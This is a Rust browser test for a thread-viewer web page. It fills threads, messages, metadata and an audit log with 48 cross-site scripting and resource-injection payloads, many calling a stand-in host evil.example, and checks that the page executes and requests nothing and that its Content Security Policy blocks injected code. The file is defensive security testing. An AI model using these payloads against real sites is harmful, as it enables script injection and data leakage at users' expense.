//! Hostile text in every part of a thread. The page shows it, and executes and requests nothing.

use axum::{
    Json,
    extract::Request,
    middleware::{Next, from_fn},
    response::{IntoResponse, Response},
};
use serde_json::{Value, json};
use throughline::{
    Content, Labels, Metadata, NewMessage, NewThread, Persistence, Role, Title,
    layers::audit::{AuditKey, AuditLayer},
    memory::MemoryBackend,
    threads::CreateThread,
};
use throughline_http::{NoAuth, router};

use crate::{driver::Browser, server::serving};

/// Texts that execute or request something where a page puts them into markup, an address, a style or a script.
const CORPUS: [&str; 48] = [
    "<script>window.executed=1</script>",
    "<script src=//evil.example/x.js></script>",
    "<script src=https://evil.example/x.js></script>",
    "<script type=module>import '//evil.example/x.js'</script>",
    "</script><script>window.executed=1</script>",
    "</title><script>window.executed=1</script>",
    "</textarea><script>window.executed=1</script>",
    "--><script>window.executed=1</script><!--",
    "]]><script>window.executed=1</script>",
    "<ScRiPt>window.executed=1</sCrIpT>",
    "<scr<script>ipt>window.executed=1</scr</script>ipt>",
    "<img src=x onerror=window.executed=1>",
    "<img src=https://evil.example/pixel.png>",
    "<img srcset='https://evil.example/pixel.png 2x'>",
    "<IMG SRC=\"jav&#x09;ascript:window.executed=1\">",
    "<image href=x onerror=window.executed=1>",
    "<svg onload=window.executed=1>",
    "<svg><script>window.executed=1</script></svg>",
    "<svg><animate onbegin=window.executed=1 attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=window.executed=1>#x'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.executed=1>",
    "<body onload=window.executed=1>",
    "<iframe src=javascript:window.executed=1></iframe>",
    "<iframe srcdoc='<script>parent.executed=1</script>'></iframe>",
    "<object data=javascript:window.executed=1></object>",
    "<embed src=https://evil.example/x.swf>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/x>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<style>body{background:url(https://evil.example/x.png)}</style>",
    "<div style=\"background:url(https://evil.example/x.png)\">",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><button autofocus onfocus=window.executed=1>",
    "<input autofocus onfocus=window.executed=1>",
    "<details open ontoggle=window.executed=1>",
    "<video><source onerror=window.executed=1></video>",
    "<audio src=x onerror=window.executed=1>",
    "<marquee onstart=window.executed=1>",
    "<a href=javascript:window.executed=1>click</a>",
    "<a ping=https://evil.example/ href=#>click</a>",
    "[click](javascript:window.executed=1)",
    "![image](https://evil.example/pixel.png)",
    "javascript:window.executed=1",
    "data:text/html,<script>window.executed=1</script>",
    "\" onmouseover=\"window.executed=1\" x=\"",
    "' autofocus onfocus='window.executed=1' x='",
    "`${window.executed=1}` {{constructor.constructor('window.executed=1')()}}",
];

/// Returns a message with the text in each part that a message has.
fn message(text: &str) -> NewMessage {
    let blocks = json!([
        {"type": "text", "text": text},
        {"type": "thinking", "thinking": text},
        {"type": "tool_use", "id": text, "name": text, "input": {text: text}},
        {"type": "tool_result", "tool_use_id": text, "content": text},
        {"type": "tool_result", "tool_use_id": text, "is_error": true, "content": [{"type": "text", "text": text}]},
        {"type": "image", "source": {"type": "url", "media_type": text, "url": text}},
        {"type": "image_url", "image_url": {"url": "https://evil.example/pixel.png"}},
        {"type": "document", "title": text, "source": {"data": text}},
        {"type": text, text: text},
        text,
    ]);
    NewMessage::new(Role::User, Content::from_blocks(&blocks).unwrap())
        .with_id(text.parse().unwrap())
        .with_attachments([text.parse().unwrap()])
        .with_metadata(serde_json::from_value::<Metadata>(json!({text: {text: text}})).unwrap())
}

async fn fill(db: &Persistence) {
    for text in CORPUS {
        let new = NewThread::new()
            .with_id(text.parse().unwrap())
            .with_title(Title::new(text).unwrap())
            .with_owner(text.parse().unwrap())
            .with_metadata(serde_json::from_value(json!({text: text})).unwrap())
            .with_labels(Labels::new().with("project", text).unwrap());
        db.on_thread(CreateThread::new(new)).await.unwrap();
        db.thread(text).add(message(text)).await.unwrap();
        db.thread("all").add(message(text)).await.unwrap();
    }
}

/// Answers for the thread `all` with roles, states and reasons that no store has.
async fn forged(request: Request, next: Next) -> Response {
    let path = request.uri().path().to_owned();
    let response = next.run(request).await;
    if !path.ends_with("/v1/threads/all/messages") {
        return response;
    }
    let body = axum::body::to_bytes(response.into_body(), usize::MAX).await.unwrap();
    let mut page: Value = serde_json::from_slice(&body).unwrap();
    for message in page["messages"].as_array_mut().into_iter().flatten() {
        let text = message["id"].clone();
        message["role"] = text.clone();
        message["state"] = text.clone();
        message["abandonReason"] = text;
    }
    Json(page).into_response()
}

/// Every element and attribute that the page has no use for.
const FOREIGN: &str = "
    const allowed = new Set('BODY HEADER MAIN NAV SECTION ARTICLE ASIDE DIV SPAN P H1 H2 H3 H4 A B I CODE PRE KBD TIME MARK STRONG UL LI DL DT DD \
        BUTTON INPUT LABEL DETAILS SUMMARY NOSCRIPT svg path'.split(' '));
    const found = [];
    for (const one of document.body.querySelectorAll('*')) {
        if (!allowed.has(one.tagName)) found.push(one.tagName);
        for (const { name, value } of one.attributes) {
            if (name.startsWith('on') || ['src', 'srcset', 'style', 'action', 'ping'].includes(name) && one.parentElement?.className !== 'thread-body' && !one.matches('.spacer, .chunk')) found.push(`${one.tagName} ${name}`);
            if (name === 'href' && !value.startsWith('#/')) found.push(`href ${value}`);
        }
    }
    return found;";

/// Opens everything that opens.
const OPEN_ALL: &str = "
    document.querySelectorAll('details').forEach((one) => (one.open = true));
    document.querySelectorAll('.message').forEach((one) => one.querySelector('.details') || one.querySelector('.actions button:last-child')?.click());";

#[track_caller]
fn assert_no_violation(log: &[String]) {
    let violations: Vec<_> = log
        .iter()
        .filter(|line| line.contains("Content Security Policy") || line.contains("Trusted"))
        .collect();
    assert!(violations.is_empty(), "{violations:#?}");
}

async fn check(browser: &Browser, origin: &str) {
    assert_eq!(browser.value("window.executed ?? null").await, Value::Null);
    assert_eq!(browser.run(FOREIGN).await, json!([]));
    assert_no_violation(&browser.log("browser").await);
    let requests = browser.requests().await;
    let foreign: Vec<_> = requests.iter().filter(|url| !url.starts_with(origin)).collect();
    assert!(!requests.is_empty() && foreign.is_empty(), "{foreign:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_text_is_shown_and_executes_and_requests_nothing() {
    let layer = AuditLayer::new(AuditKey::new(&[7; 32]));
    let db = Persistence::builder().layer(layer).backend(MemoryBackend::new()).build().unwrap();
    let db = db.with_actor(CORPUS[11]);
    fill(&db).await;
    let api = router(db.clone(), NoAuth::single_tenant("default".parse().unwrap())).layer(from_fn(forged));
    let page = serving(api).await;
    let origin = page.trim_end_matches("ui/");
    let browser = Browser::start().await;

    // The list has every title, label and preview.
    browser.open(&format!("{page}#/threads")).await;
    let rows = CORPUS.len() + 1;
    browser.until(&format!("document.querySelectorAll('a.row').length === {rows}")).await;
    for text in CORPUS {
        let text = serde_json::to_string(text).unwrap();
        browser
            .until(&format!(
                "[...document.querySelectorAll('.row-title')].some((one) => one.textContent === {text})"
            ))
            .await;
    }
    check(&browser, origin).await;

    // Each message with its blocks, details and metadata, and each role, state and reason.
    browser.open("about:blank").await;
    browser.open(&format!("{page}#/threads/all?at=1")).await;
    for (at, text) in CORPUS.iter().enumerate() {
        let seq = at + 1;
        let message = format!("document.querySelector('.message[data-seq=\"{seq}\"]')");
        browser.run(&format!("location.hash = '#/threads/all?at={seq}'")).await;
        browser.until(&format!("{message} !== null")).await;
        browser.run(OPEN_ALL).await;
        let text = serde_json::to_string(text).unwrap();
        for part in
            [".author", ".state-text", ".line", ".json", ".reason", ".attachments .chip", ".panel-title"]
        {
            if part == ".state-text" {
                browser.until(&format!("{message}.dataset.state === {text}")).await;
                continue;
            }
            browser
                .until(&format!("[...{message}.querySelectorAll('{part}')].some((one) => one.textContent.includes({text}) || one.textContent.includes(JSON.stringify({text}).slice(1, -1)))"))
                .await;
        }
    }
    check(&browser, origin).await;

    // The thread of each id, with its title, owner and metadata.
    for text in CORPUS {
        let id = serde_json::to_string(text).unwrap();
        browser.run(&format!("location.hash = '#/threads/' + encodeURIComponent({id})")).await;
        browser.until(&format!("document.querySelector('.thread-title h1')?.textContent === {id} && document.querySelectorAll('.message').length === 1")).await;
        browser.run(OPEN_ALL).await;
    }
    check(&browser, origin).await;

    // The audit log, and a search.
    browser.run("location.hash = '#/audit'").await;
    browser.until("document.querySelectorAll('.entry').length > 20").await;
    browser.run(OPEN_ALL).await;
    for text in CORPUS {
        let query = serde_json::to_string(text).unwrap();
        browser.run(&format!("location.hash = '#/threads?q=' + encodeURIComponent({query})")).await;
        browser.until("document.querySelector('.skeletons') === null").await;
    }
    check(&browser, origin).await;
    browser.close().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_policy_refuses_code_that_gets_into_the_page_and_the_checks_see_it() {
    let db = crate::server::memory();
    let page = crate::server::page_of(&db).await;
    let browser = Browser::start().await;
    browser.open(&page).await;
    browser.until("document.querySelector('.threads') !== null").await;
    let name = browser
        .run("try { document.body.innerHTML = '<b>x</b>'; return 'allowed' } catch (error) { return error.name }")
        .await;
    assert_eq!(name, "TypeError");
    browser.log("browser").await;
    let attribute = "try { document.body.setAttribute('onclick', 'window.executed = 1'); return 'allowed' } \
        catch (error) { return error.name }";
    assert_eq!(browser.run(attribute).await, "TypeError");
    browser
        .run("const image = new Image(); image.src = 'https://evil.example/'; document.body.append(image)")
        .await;
    browser.run("fetch('https://evil.example/').catch(() => {})").await;
    assert_eq!(browser.value("window.executed ?? null").await, Value::Null);
    assert_eq!(browser.run(FOREIGN).await, json!(["IMG", "IMG src"]));
    let log = browser.log("browser").await;
    let violations = log.iter().filter(|line| line.contains("Content Security Policy"));
    assert!(violations.count() >= 2, "{log:#?}");
    browser.close().await;
}
